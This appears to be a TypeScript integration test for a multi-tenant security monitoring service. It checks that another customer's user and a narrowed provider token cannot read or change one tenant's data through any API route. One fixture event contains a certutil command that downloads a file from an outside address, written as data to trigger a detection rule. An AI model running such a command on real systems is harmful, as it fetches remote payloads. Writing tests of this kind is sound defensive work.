import { readFileSync } from 'node:fs';
import { TOTP } from 'otpauth';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { z } from 'zod';
import { type Acme, day } from './isolation/case.ts';
import { cases } from './isolation/cases.ts';
import { type Running, startIronbark } from './running.ts';
import { everyPermission, wholeSystem } from '../../src/identity/permissions.ts';

/*
 * Every route of the running system, as its OpenAPI lists them, is called by two who have nothing to do with Acme: a person of
 * another customer, and a token of the provider's that covers only that customer's tenancy. Nothing of Acme may come back, and
 * nothing of Acme's may have changed. A route that has no case here fails the test.
 */

type Caller = { readonly name: string; readonly headers: Record<string, string> };
type Sent = { readonly status: number; readonly text: string };

/** What only Acme has, and only the provider: names of hosts, people and values, in whatever answer. */
const markers = [
  'ACME-HOST-1',
  'acme-sensor',
  'Acme Holdings',
  'acme-person',
  'acme-excepted',
  'acme-odce',
  'sov-secret',
];
const password = 'a long pass phrase of no use';

let ironbark: Running;
let admin: Caller;
let officer: Caller;
let narrowed: Caller;
let acme: Acme;

async function send(caller: Caller | undefined, method: string, path: string, body?: unknown): Promise<Sent> {
  const stop = new AbortController();
  const answer = await fetch(`${ironbark.origin}${path}`, {
    method,
    signal: stop.signal,
    headers: { ...caller?.headers, ...(body !== undefined && { 'content-type': 'application/json' }) },
    ...(body !== undefined && { body: JSON.stringify(body) }),
  });
  if (answer.headers.get('content-type')?.startsWith('text/event-stream') !== true)
    return { status: answer.status, text: await answer.text() };
  // A stream has no end: what comes in two seconds, while Acme's events come in.
  const timer = setTimeout(() => stop.abort(), 2000);
  let text = '';
  try {
    for await (const piece of answer.body ?? []) text += Buffer.from(piece).toString();
  } catch (error) {
    if (!stop.signal.aborted) throw error;
  }
  clearTimeout(timer);
  return { status: answer.status, text };
}

async function ask<Schema extends z.ZodType>(
  schema: Schema,
  method: string,
  path: string,
  body?: unknown,
): Promise<z.output<Schema>> {
  const { status, text } = await send(admin, method, path, body);
  if (status >= 300) throw new Error(`${method} ${path} gave ${status}: ${text}`);
  return schema.parse(text === '' ? null : JSON.parse(text));
}

const list = z.object({
  alerts: z.array(z.object({ id: z.string(), revision: z.number(), state: z.string(), tenancy: z.string() })),
});
const anything = z.unknown();

async function acmesAlert(): Promise<{ id: string; revision: number; state: string }> {
  const first = async () => (await ask(list, 'GET', '/api/alerts?tenancy=acme-odce')).alerts[0];
  return vi.waitUntil(first, { timeout: 60_000, interval: 500 });
}

/** One certutil download, and one line that can't be read. */
async function acmeSends(secret: string): Promise<void> {
  const { doors } = await ask(
    z.object({ doors: z.array(z.object({ kind: z.string(), port: z.number() })) }),
    'GET',
    '/api/sources/doors',
  );
  const port = doors.find((door) => door.kind === 'bulk')?.port;
  const event = {
    '@timestamp': new Date().toISOString(),
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    SourceName: 'Microsoft-Windows-Sysmon',
    EventID: 1,
    Hostname: 'ACME-HOST-1',
    Image: 'C:\\Windows\\System32\\certutil.exe',
    CommandLine: 'certutil -urlcache -f http://203.0.113.7/a',
    User: 'ACME\\acme-person',
  };
  const lines = [{ create: {} }, event, { create: {} }].map((line) => JSON.stringify(line));
  const answer = await fetch(`http://127.0.0.1:${port}/_bulk`, {
    method: 'POST',
    headers: {
      authorization: `ApiKey ${secret}`,
      'content-type': 'application/x-ndjson',
      'user-agent': 'test',
    },
    body: `${lines.join('\n')}\n"ACME-HOST-1 is no object"\n`,
  });
  if (!answer.ok) throw new Error(`the door gave ${answer.status}: ${await answer.text()}`);
}

/** A person of Zeta's, signed in as a browser is. */
async function enrolled(link: string): Promise<Caller> {
  const token = new URL(link, ironbark.origin).searchParams.get('token');
  const post = async (path: string, body: unknown, headers: Record<string, string> = {}) => {
    const answer = await fetch(`${ironbark.origin}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...headers },
      body: JSON.stringify(body),
    });
    const cookie = answer.headers.getSetCookie()[0]?.split(';', 1)[0];
    return {
      cookie,
      body: z
        .looseObject({ csrfToken: z.string(), secret: z.string().optional() })
        .parse(await answer.json()),
    };
  };
  const first = await post('/api/first-sign-in', { token, name: 'Zoe', email: 'zoe@zeta.example', password });
  const code = new TOTP({ secret: first.body.secret ?? '' }).generate();
  const full = await post(
    '/api/totp/confirm',
    { code },
    { cookie: first.cookie ?? '', 'x-csrf-token': first.body.csrfToken },
  );
  return {
    name: "Zeta's officer",
    headers: { cookie: full.cookie ?? first.cookie ?? '', 'x-csrf-token': full.body.csrfToken },
  };
}

beforeAll(async () => {
  ironbark = await startIronbark();
  const local = z
    .object({ secret: z.string() })
    .parse(JSON.parse(readFileSync(`${ironbark.data}/run/local.json`, 'utf8')));
  admin = { name: 'admin', headers: { authorization: `Bearer ${local.secret}` } };
  await ask(anything, 'POST', '/api/setup/provider', { id: 'sov', name: 'Sovereign' });
  for (const [id, name] of [
    ['acme', 'Acme Holdings'],
    ['zeta', 'Zeta'],
  ]) {
    await ask(anything, 'POST', '/api/community/organisations', { id, name, kind: 'customer' });
    await ask(anything, 'POST', '/api/community/tenancies', { organisation: id, environment: 'odce' });
  }
  const { secret } = await ask(z.object({ secret: z.string() }), 'POST', '/api/sources', {
    id: 'acme-sensor',
    name: 'acme-sensor',
    tenancy: 'acme-odce',
    authentication: { kind: 'token' },
  });
  await acmeSends(secret);
  const alert = await acmesAlert();
  const detail = await ask(
    z.object({ ruleId: z.string(), sample: z.array(z.object({ eventUids: z.array(z.string()) })) }),
    'GET',
    `/api/alerts/${alert.id}`,
  );
  const exception = await ask(z.object({ id: z.string() }), 'POST', '/api/rules/exceptions', {
    ruleId: detail.ruleId,
    tenancy: 'acme-odce',
    field: 'Image',
    value: 'acme-excepted',
    reason: 'for this test',
    expiresAt: day.to,
  });
  const rules = await ask(z.object({ packs: z.array(z.object({ id: z.string() })) }), 'GET', '/api/rules');
  const roles = ['analyst', 'auditor', 'customer-security-officer'];
  const created = z.object({ user: z.object({ id: z.string() }), link: z.string() });
  const theirs = await ask(created, 'POST', '/api/users', {
    name: 'acme-person',
    email: 'p@acme.example',
    roles,
    organisation: 'acme',
  });
  const identified = z.object({ id: z.string() });
  const person = await ask(identified, 'POST', '/api/persons', {
    organisation: 'acme',
    name: 'acme-person',
    email: 'p@acme.example',
  });
  const appointment = await ask(identified, 'POST', '/api/appointments', {
    person: person.id,
    office: 'cio',
    evidenceKind: 'letter',
    evidence: 'Acme Holdings, letter 1',
  });
  const exceptionOfPlace = await ask(identified, 'POST', '/api/places/exceptions', {
    person: person.id,
    countries: ['NZ'],
    riskAssessment: 'Acme Holdings 7',
    reason: 'conference',
    expiresAt: day.to,
  });
  const asset = await ask(identified, 'POST', '/api/assets', {
    tenancy: 'acme-odce',
    kind: 'host',
    name: 'ACME-HOST-1',
    owner: 'acme-person',
  });
  await ask(anything, 'POST', '/api/assets', { tenancy: 'sov-odce', kind: 'host', name: 'sov-secret-host' });
  const evidence = '?environment=odce&kind=house.hosts&source=sov-secret-scanner';
  await ask(anything, 'POST', `/api/evidence${evidence}`, [
    { subject: 'sov-secret-host', values: { ok: false } },
  ]);
  const risk = await ask(identified, 'POST', '/api/risk/odce/register', {
    title: 'sov-secret-risk',
    judged: { low: 0.1, high: 0.2, band: 3 },
    treatment: 'retain',
    owner: 'sov-secret-owner',
  });
  const zetas = await ask(created, 'POST', '/api/users', {
    name: 'Zoe',
    email: 'zoe@zeta.example',
    roles,
    organisation: 'zeta',
  });
  officer = await enrolled(zetas.link);
  const made = z.object({ token: z.object({ id: z.string() }), secret: z.string() });
  const token = await ask(made, 'POST', '/api/tokens', {
    name: 'narrowed',
    permissions: everyPermission.filter((permission) => !wholeSystem.has(permission)),
    tenancies: ['zeta-odce'],
    days: 1,
  });
  narrowed = {
    name: "a token of the provider's, for Zeta only",
    headers: { authorization: `Bearer ${token.secret}` },
  };
  const review = await ask(z.object({ review: z.object({ id: z.string() }) }), 'POST', '/api/reviews', {
    name: 'acme-person and others',
    organisation: 'acme',
  });
  const ledger = await ask(
    z.object({ entries: z.array(z.object({ id: z.string() })) }),
    'GET',
    '/api/ledger?subject=source/acme-sensor',
  );
  acme = {
    alert: alert.id,
    revision: alert.revision,
    event: detail.sample[0]?.eventUids[0] ?? '',
    exception: exception.id,
    rule: detail.ruleId,
    pack: rules.packs[0]?.id ?? '',
    user: theirs.user.id,
    token: token.token.id,
    review: review.review.id,
    person: person.id,
    appointment: appointment.id,
    entry: ledger.entries[0]?.id ?? '',
    exceptionOfPlace: exceptionOfPlace.id,
    asset: asset.id,
    risk: risk.id,
    collection:
      (await ask(z.object({ collections: z.array(identified) }), 'GET', '/api/evidence?environment=odce'))
        .collections[0]?.id ?? '',
  };
}, 300_000);
afterAll(() => ironbark.stop());

/** A refusal names what was asked for: the link under it asks again. */
const echoing = ['POST /access/v1/evaluation', 'POST /access/v1/evaluations'];

/** These end the caller's own session: last. */
const last = ['DELETE /api/session'];

async function routes(): Promise<string[]> {
  const shape = z.object({ paths: z.record(z.string(), z.record(z.string(), z.unknown())) });
  const { paths } = await ask(shape, 'GET', '/api/openapi.json');
  return Object.entries(paths).flatMap(([path, methods]) =>
    Object.keys(methods).map((method) => `${method.toUpperCase()} ${path}`),
  );
}

test('every route has a case here, and every case is a route', async () => {
  expect((await routes()).sort()).toEqual([...Object.keys(cases), ...last].sort());
});

test('Acme itself is there to be seen by whom it concerns', async () => {
  const seen = await send(admin, 'POST', '/api/events/search', { ...day, query: 'ACME*' });
  expect(seen.text).toContain('ACME-HOST-1');
  const mine = await send(officer, 'GET', '/api/session');
  expect(mine).toMatchObject({ status: 200, text: expect.stringContaining('zeta-odce') });
  expect((await send(narrowed, 'GET', '/api/alerts')).status).toBe(200);
});

test('nothing of Acme comes back to who has nothing to do with it, by any route, and nothing of it is changed', async () => {
  const leaks: string[] = [];
  const broken: string[] = [];
  for (const caller of [officer, narrowed]) {
    for (const [route, prepare] of Object.entries(cases)) {
      const [method = '', pattern = ''] = route.split(' ');
      const { path = {}, query = '', body } = prepare(acme);
      const url = pattern.replaceAll(/\{([\w*]+)\}/g, (_, name: string) =>
        encodeURIComponent(path[name] ?? ''),
      );
      const { status, text } = await send(caller, method, url + query, body);
      // What was asked with is echoed in the problem; the answer holds nothing else of Acme's.
      const asked = `${url}${query}${JSON.stringify(body ?? '')}`;
      const found = markers.filter(
        (marker) =>
          text.includes(marker) && !((status >= 400 || echoing.includes(route)) && asked.includes(marker)),
      );
      if (found.length > 0) leaks.push(`${caller.name}: ${route} gave ${status} with ${found.join(', ')}`);
      const off = status === 503 && text.includes('problem:gateway-off');
      if (status >= 500 && !off)
        broken.push(`${caller.name}: ${route} gave ${status}: ${text.slice(0, 200)}`);
    }
  }
  expect({ leaks, broken }).toEqual({ leaks: [], broken: [] });

  expect(
    await ask(z.object({ state: z.string(), revision: z.number() }), 'GET', `/api/alerts/${acme.alert}`),
  ).toMatchObject({ state: 'new', revision: acme.revision });
  expect(await ask(anything, 'GET', '/api/sources/acme-sensor')).toMatchObject({ state: 'active' });
  expect(await ask(anything, 'GET', `/api/rules/exceptions?rule=${acme.rule}`)).toMatchObject({
    exceptions: [{ id: acme.exception }],
  });
  expect(await ask(anything, 'GET', `/api/rules/${acme.rule}`)).toMatchObject({ enabled: true });
  const { users } = await ask(
    z.object({ users: z.array(z.object({ id: z.string(), locked: z.boolean() })) }),
    'GET',
    '/api/users',
  );
  expect(users.find((user) => user.id === acme.user)?.locked).toBe(false);
  expect(await ask(anything, 'GET', `/api/assets/${acme.asset}`)).toMatchObject({
    name: 'ACME-HOST-1',
    owner: 'acme-person',
    state: 'active',
    revision: 1,
    dependencies: [],
  });
  expect(await ask(anything, 'GET', '/api/organisations/acme')).toMatchObject({
    abn: null,
    tenancies: [{ id: 'acme-odce', state: 'invited', services: [] }],
  });
  expect(await ask(anything, 'GET', '/api/persons?organisation=acme')).toMatchObject({
    people: [{ id: acme.person, name: 'acme-person', endedAt: null }],
  });
  expect(await ask(anything, 'GET', '/api/appointments?organisation=acme')).toMatchObject({
    appointments: [{ id: acme.appointment, state: 'proposed', verifications: [] }],
  });
  expect(await ask(anything, 'GET', '/api/clearances')).toEqual({ clearances: [] });
  expect(await ask(anything, 'GET', '/api/places')).toMatchObject({
    exceptions: [{ id: acme.exceptionOfPlace, state: 'proposed' }],
    remoteWork: [],
    devices: [],
  });
  expect(await ask(anything, 'GET', `/api/risk/register/${acme.risk}`)).toMatchObject({
    title: 'sov-secret-risk',
  });
}, 400_000);

test('who is nobody gets nothing but what is public', async () => {
  const open: string[] = [];
  for (const [route, prepare] of Object.entries(cases)) {
    const [method = '', pattern = ''] = route.split(' ');
    const { path = {}, query = '', body } = prepare(acme);
    const url = pattern.replaceAll(/\{([\w*]+)\}/g, (_, name: string) =>
      encodeURIComponent(path[name] ?? ''),
    );
    const { status } = await send(undefined, method, url + query, body);
    // A sign-in that fails is a 401 too: it is open to try.
    if (status !== 401 || route === 'POST /api/session/password') open.push(route);
  }
  expect(open.sort()).toEqual([
    'GET /.well-known/authzen-configuration',
    'GET /api/session/issuers',
    'GET /api/session/issuers/{id}',
    'GET /api/session/issuers/{id}/callback',
    'GET /api/setup',
    'GET /healthz',
    'GET /ledger/checkpoint',
    'GET /ledger/tile/{*}',
    'GET /readyz',
    'POST /api/first-sign-in',
    'POST /api/session/issuers/{id}/logout',
    'POST /api/session/passkey',
    'POST /api/session/passkey/options',
    'POST /api/session/password',
  ]);
}, 60_000);
